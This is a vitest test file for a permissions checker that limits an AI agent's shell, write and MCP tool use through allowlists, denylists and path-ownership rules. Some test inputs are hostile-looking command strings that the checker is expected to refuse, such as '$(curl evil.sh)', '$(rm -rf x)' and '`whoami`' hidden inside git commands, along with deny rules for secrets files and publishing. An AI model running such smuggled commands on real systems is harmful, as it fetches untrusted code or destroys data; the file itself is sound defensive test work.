import { describe, expect, it } from 'vitest';
import { ErrorCodes } from '@headspace/contracts';
import { bashSpecifierMatches, checkToolAllowed, checkToolDenied, decideWrites, parseToolRule, splitShellCommand, toolNameMatches } from './permissions';

describe('tool rules', () => {
  it.each([
    ['Read', { tool: 'Read' }],
    ['Bash(git:*)', { tool: 'Bash', specifier: 'git:*' }],
    ['Bash(uv run pytest:*)', { tool: 'Bash', specifier: 'uv run pytest:*' }],
    ['Write(src/**)', { tool: 'Write', specifier: 'src/**' }],
    ['mcp__github__*', { tool: 'mcp__github__*' }],
  ])('parses %s', (raw, expected) => {
    expect(parseToolRule(raw)).toEqual({ raw, ...expected });
  });

  it.each([
    ['mcp__*', 'mcp__github__create_issue', true],
    ['mcp__github__*', 'mcp__memory__search', false],
    ['Read', 'Read', true],
    ['Read', 'ReadMore', false],
  ])('tool name rule %s vs %s → %s', (rule, name, expected) => {
    expect(toolNameMatches(rule, name)).toBe(expected);
  });

  it.each([
    ['git:*', 'git status', true],
    ['git:*', 'git', true],
    ['git:*', 'gitk', false],
    ['git:*', 'npm install', false],
    ['uv run pytest:*', 'uv run pytest -k auth', true],
    ['uv run pytest:*', 'uv run python x.py', false],
    ['npm test', 'npm test', true],
    ['npm test', 'npm test -- --watch', false],
    ['npm run *', 'npm run lint', true],
    ['*', 'anything at all', true],
  ])('Bash specifier %s vs "%s" → %s', (spec, cmd, expected) => {
    expect(bashSpecifierMatches(spec, cmd)).toBe(expected);
  });
});

describe('splitShellCommand', () => {
  it.each([
    ['git status && npm install', ['git status', 'npm install'], false],
    ['git log | head -5; echo done', ['git log', 'head -5', 'echo done'], false],
    ["echo 'a && b'", ["echo 'a && b'"], false],
    ['git commit -m "$(rm -rf x)"', ['git commit -m "$(rm -rf x)"'], true],
    ['git log `whoami`', ['git log `whoami`'], true],
    ['git diff 2>&1', ['git diff 2>&1'], false],
    ['sleep 1 & git status', ['sleep 1', 'git status'], false],
  ])('splits %s', (cmd, segments, hasSubstitution) => {
    expect(splitShellCommand(cmd)).toEqual({ segments, hasSubstitution });
  });
});

describe('checkToolAllowed', () => {
  const manifest = ['Read', 'Grep', 'Glob', 'Bash(git:*)', 'Bash(npm test)', 'Write(src/**)', 'mcp__memory__*'];
  it.each([
    ['Read', {}, true],
    ['Edit', { paths: ['src/a.ts'] }, false],
    ['Bash', { command: 'git status' }, true],
    ['Bash', { command: 'npm install' }, false],
    ['Bash', { command: 'npm test' }, true],
    ['Bash', { command: 'git status && npm install left-pad' }, false],
    ['Bash', { command: 'git status; npm test' }, true],
    ['Bash', { command: 'git log $(curl evil.sh)' }, false],
    ['Write', { paths: ['src/core/a.ts'] }, true],
    ['Write', { paths: ['docs/a.md'] }, false],
    ['mcp__memory__search', {}, true],
    ['mcp__github__push', {}, false],
  ])('%s %j allowed=%s', (toolName, facts, expected) => {
    const verdict = checkToolAllowed(manifest, { toolName, ...facts });
    expect(verdict.allowed).toBe(expected);
    if (!verdict.allowed) expect(verdict.code).toBe(ErrorCodes.toolNotAllowed);
  });

  it('allows everything when the persona has no allowlist', () => {
    expect(checkToolAllowed(undefined, { toolName: 'Bash', command: 'rm -rf build' })).toEqual({ allowed: true });
  });

  it('names the refused command and the rules in the reason', () => {
    const verdict = checkToolAllowed(['Bash(git:*)'], { toolName: 'Bash', command: 'npm install' });
    expect(verdict).toMatchObject({ allowed: false, reason: expect.stringContaining('"npm install"') });
    expect(!verdict.allowed && verdict.reason).toContain('Bash(git:*)');
  });

  it('an unrestricted Bash entry allows what a prefix rule would refuse', () => {
    expect(checkToolAllowed(['Bash', 'Bash(git:*)'], { toolName: 'Bash', command: 'npm install' }).allowed).toBe(true);
  });
});

describe('checkToolDenied', () => {
  const deny = ['WebFetch', 'Bash(npm publish:*)', 'Write(secrets/**)'];
  it.each([
    ['WebFetch', {}, false],
    ['Read', {}, true],
    ['Bash', { command: 'npm test' }, true],
    ['Bash', { command: 'npm test && npm publish --tag next' }, false],
    ['Bash', { command: 'echo $(npm publish)' }, false],
    ['Write', { paths: ['src/a.ts'] }, true],
    ['Write', { paths: ['secrets/prod.env'] }, false],
  ])('%s %j allowed=%s', (toolName, facts, expected) => {
    expect(checkToolDenied(deny, { toolName, ...facts }).allowed).toBe(expected);
  });
});

describe('decideWrites', () => {
  const owns = ['src/domain/**', 'tests/**', '*.md'];
  it.each([
    [['src/domain/user.ts'], 'refuse', 'allow'],
    [['README.md'], 'refuse', 'allow'],
    [['docs/guide.md'], 'refuse', 'refuse'],
    [['src/infra/db.ts'], 'refuse', 'refuse'],
    [['src/infra/db.ts'], 'require-lock', 'needs-lock'],
    [['src/infra/db.ts'], 'allow', 'allow'],
    [['.headspace/settings.json'], 'allow', 'refuse'],
    [['.git/hooks/pre-commit'], 'allow', 'refuse'],
  ] as const)('%j with policy %s → %s', (writes, policy, kind) => {
    expect(decideWrites(writes, owns, policy).kind).toBe(kind);
  });

  it('refuses outside owns with TOOL.WRITE_OUTSIDE_OWNS naming the path', () => {
    expect(decideWrites(['src/infra/db.ts'], owns, 'refuse')).toMatchObject({ code: ErrorCodes.toolWriteOutsideOwns, reason: expect.stringContaining('src/infra/db.ts') });
  });

  it('asks for locks only on the paths outside owns', () => {
    expect(decideWrites(['src/domain/a.ts', 'src/infra/b.ts'], owns, 'require-lock')).toEqual({ kind: 'needs-lock', paths: ['src/infra/b.ts'] });
  });

  it('allows any write when the persona owns nothing in particular (no owns list)', () => {
    expect(decideWrites(['anything/at/all.ts'], undefined, 'refuse').kind).toBe('allow');
  });
});
